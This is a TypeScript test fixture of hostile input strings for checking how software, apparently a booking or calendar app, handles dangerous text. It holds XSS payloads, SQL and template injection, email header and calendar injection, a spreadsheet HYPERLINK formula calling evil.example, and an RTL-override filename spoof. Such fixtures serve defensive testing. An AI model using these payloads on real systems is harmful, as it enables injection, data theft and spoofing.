/** Texts that have broken other programs. Each carries a mark, by which it is found again wherever it went. */
export const hostileTexts: Readonly<Record<string, (mark: string) => string>> = {
  "a header after a line break": (mark) =>
    `Ann ${mark}\r\nBcc: all@example.com\r\nContent-Type: text/html\r\n\r\n<b>x</b>`,
  "an event after a line feed": (mark) => `Ann ${mark}\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:Mine`,
  "line breaks of Unicode": (mark) => `Ann ${mark}\u2028BEGIN:VALARM\u2029X-EVIL:1\u0085Y:2`,
  markup: (mark) => `<script>alert("${mark}")</script><img src=x onerror='alert(1)'>&lt;</title></textarea>`,
  "an attribute": (mark) => `" onfocus="alert(1)" autofocus ${mark} ' style='position:fixed`,
  "a formula": (mark) => `=HYPERLINK("https://evil.example/${mark}","${mark}")`,
  templates: (mark) => `{{7*7}} \${7*7} <%= 7*7 %> #{7*7} %s %n {0} ${mark}`,
  quotes: (mark) => `'; drop table booking; -- \\' \\" \\n $1 __proto__ ${mark}`,
  "a script address": (mark) => `javascript:alert(1)//${mark}`,
  "10,000 letters": (mark) => `${mark} ${"å".repeat(9_990 - mark.length)}`,
  emoji: (mark) => `👩🏽‍🚀 👨‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 ❤️‍🔥 ${mark}`,
  "other scripts": (mark) => `שלום Größe 日本語 مرحبا می‌خواهم Z͑̑a̽l̈g͆o ${mark}`,
  "a run backwards": (mark) => `Ann \u202egpj.exe\u202c ${mark}`,
  "an isolate that stays open": (mark) => `Ann \u2067\u061c${mark}`,
  "nothing to see": (mark) => `\u200b\u2060\ufeff${mark}\u200d`,
  "a NUL": (mark) => `Ann\u0000${mark}`,
  "an escape sequence": (mark) => `\u001b[2J\u0007\u009b31m${mark}`,
  "half a character": (mark) => `Ann \ud83d ${mark}`,
};

/** As text is kept: trimmed, and its lines end by \n. */
export function asKept(text: string): string {
  return text.trim().replaceAll("\r\n", "\n");
}
